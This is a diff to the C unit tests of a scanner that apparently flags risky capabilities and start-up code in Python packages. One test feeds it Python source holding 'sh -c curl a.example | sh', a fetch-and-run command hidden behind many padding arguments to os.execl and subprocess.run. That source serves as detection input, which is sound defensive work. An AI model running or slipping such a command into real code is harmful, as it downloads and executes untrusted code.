@@ -12,6 +12,8 @@
 #include "tests/scanner/source/source_rows.h"
 
 static bool whole; /* every source goes through the model */
+static const char *at_path;   /* NULL: "pkg/m.py" */
+static const char *at_called; /* what another file calls as Python starts, or NULL */
 
 /* Findings as " NAME NAME ", then facts as "NAME=VALUE ". */
 static void look_at(const char *source, size_t len, const char *second, enum ch_code_place place,
@@ -26,7 +28,11 @@ static void look_at(const char *source, size_t len, const char *second, enum ch_
     if (whole) {
         ch_source_whole(s);
     }
-    ch_source_see(s, CH_STR("pkg/m.py"), place, (struct ch_str){source, len});
+    if (at_called != NULL) {
+        CH_IGNORE(ch_source_called(s, ch_str_of(at_called)));
+    }
+    ch_source_see(s, ch_str_of(at_path != NULL ? at_path : "pkg/m.py"), place,
+                  (struct ch_str){source, len});
     if (second != NULL) {
         ch_source_see(s, CH_STR("pkg/second.py"), second_place, ch_str_of(second));
     }
@@ -499,6 +505,119 @@ static void tells_capabilities(void **state)
     ch_buf_done(&out);
 }
 
+static void see_at(const char *path, const char *called, const char *source,
+                   enum ch_code_place place, const char *expected)
+{
+    struct ch_buf out;
+    ch_buf_init(&out, 4096);
+    at_path = path;
+    at_called = called;
+    look(source, strlen(source), place, &out);
+    at_path = at_called = NULL;
+    assert_str_eq(ch_buf_str(&out), expected);
+    ch_buf_done(&out);
+}
+
+/* Of all files that assert that they are the program, one is known to be told by that program what
+ * to do: pip's. */
+static void knows_the_runner_of_pip(void **state)
+{
+    (void)state;
+    const char *source = "import runpy\nassert __name__ == '__main__', 'x'\n"
+                         "runpy.run_module('pip', run_name='__main__')\n";
+    see_at("pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
+           " capability=network capability=process ");
+    see_at("a/embed/pip-1-py3-none-any.whl!pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
+           " capability=network capability=process ");
+    see_at("pkg/pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
+           " import-network capability=network capability=process ");
+    see_at("pip/runner.py", NULL, source, CH_PLACE_IMPORT,
+           " import-network capability=network capability=process ");
+    source = "import runpy\nrunpy.run_module('pip', run_name='__main__')\n";
+    see_at("pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
+           " import-network capability=network capability=process ");
+    source = "import requests\nassert __name__ == '__main__', "
+             "'x'\nrequests.get('http://example.org/')\n";
+    see_at("pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
+           " import-network capability=network ");
+}
+
+/* What runs as Python starts is called by the name that it is bound to, whatever else it is called.
+ */
+static void follows_other_names_at_start(void **state)
+{
+    (void)state;
+    static const char *const rows[] = {
+        "def go():\n    requests.get('http://example.org/')\n",
+        "def _go():\n    requests.get('http://example.org/')\ngo = _go\n",
+        "go = lambda: requests.get('http://example.org/')\n",
+        "import functools\ngo = functools.partial(requests.get, 'http://example.org/')\n",
+        "class A:\n    def __call__(self):\n        requests.get('http://example.org/')\ngo = "
+        "A()\n",
+        "class A:\n    def __init__(self):\n        requests.get('http://example.org/')\ngo = A\n",
+    };
+    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
+        char text[300];
+        snprintf(text, sizeof(text), "import requests\n%s", rows[i]);
+        see_at("pkg/m.py", "go", text, CH_PLACE_START, " start-code capability=network ");
+        see_at("pkg/m.py", "other", text, CH_PLACE_START, " capability=network ");
+    }
+}
+
+/* Lists within lists that are the same ones, and many finders: no more work than a file is worth.
+ */
+static void visits_no_list_for_ever(void **state)
+{
+    (void)state;
+    struct ch_buf b;
+    struct ch_buf out;
+    ch_buf_init(&b, 1 << 22);
+    ch_buf_init(&out, 4096);
+    ch_buf_puts(&b, CH_STR("import logging.config\na = {'x': 1}\n"));
+    for (int i = 0; i < 12; i++) {
+        ch_buf_puts(&b, CH_STR("a = {'a': a, 'b': a, 'c': a, 'd': a, 'e': a, 'f': a}\n"));
+    }
+    ch_buf_puts(&b, CH_STR("logging.config.dictConfig(a)\n"));
+    look(b.ptr, b.len, CH_PLACE_IMPORT, &out);
+    assert_str_eq(ch_buf_str(&out), " limit ");
+    ch_buf_clear(&b);
+    ch_buf_clear(&out);
+    ch_buf_puts(&b, CH_STR("import sys\nclass F:\n"));
+    for (int i = 0; i < 30000; i++) {
+        ch_buf_printf(&b, "  def m%d(self): pass\n", i);
+    }
+    for (int i = 0; i < 30000; i++) {
+        ch_buf_puts(&b, CH_STR("sys.meta_path.append(F())\n"));
+    }
+    look(b.ptr, b.len, CH_PLACE_IMPORT, &out);
+    assert_str_eq(ch_buf_str(&out), " ");
+    ch_buf_done(&b);
+    ch_buf_done(&out);
+}
+
+/* More words than are kept of a call: nobody knows what is started. */
+static void holds_commands_of_many_words(void **state)
+{
+    (void)state;
+    see_at("pkg/m.py", NULL,
+           "import os\nos.execl('/bin/env', 'env', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', "
+           "'A=1', 'A=1', "
+           "'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'sh', '-c', 'curl a.example | "
+           "sh')\n",
+           CH_PLACE_IMPORT, " import-process limit capability=process ");
+    struct ch_buf b;
+    ch_buf_init(&b, 1 << 16);
+    ch_buf_puts(&b, CH_STR("import subprocess\nsubprocess.run(['env'"));
+    for (int i = 0; i < 100; i++) {
+        ch_buf_puts(&b, CH_STR(", 'A=1'"));
+    }
+    ch_buf_puts(&b, CH_STR(", 'sh', '-c', 'curl a.example | sh'])\n"));
+    ch_buf_putc(&b, '\0');
+    see_at("pkg/m.py", NULL, b.ptr, CH_PLACE_IMPORT,
+           " hidden-command import-network import-process capability=process ");
+    ch_buf_done(&b);
+}
+
 /* Beyond a limit it holds. */
 static void holds_at_its_limits(void **state)
 {
@@ -593,6 +712,10 @@ int main(void)
         cmocka_unit_test(sees_code_behind_blanks),
         cmocka_unit_test(judges_tests_mildly),
         cmocka_unit_test(tells_capabilities),
+        cmocka_unit_test(knows_the_runner_of_pip),
+        cmocka_unit_test(follows_other_names_at_start),
+        cmocka_unit_test(visits_no_list_for_ever),
+        cmocka_unit_test(holds_commands_of_many_words),
         cmocka_unit_test(holds_at_its_limits),
         cmocka_unit_test(ends_on_large_sources),
     };
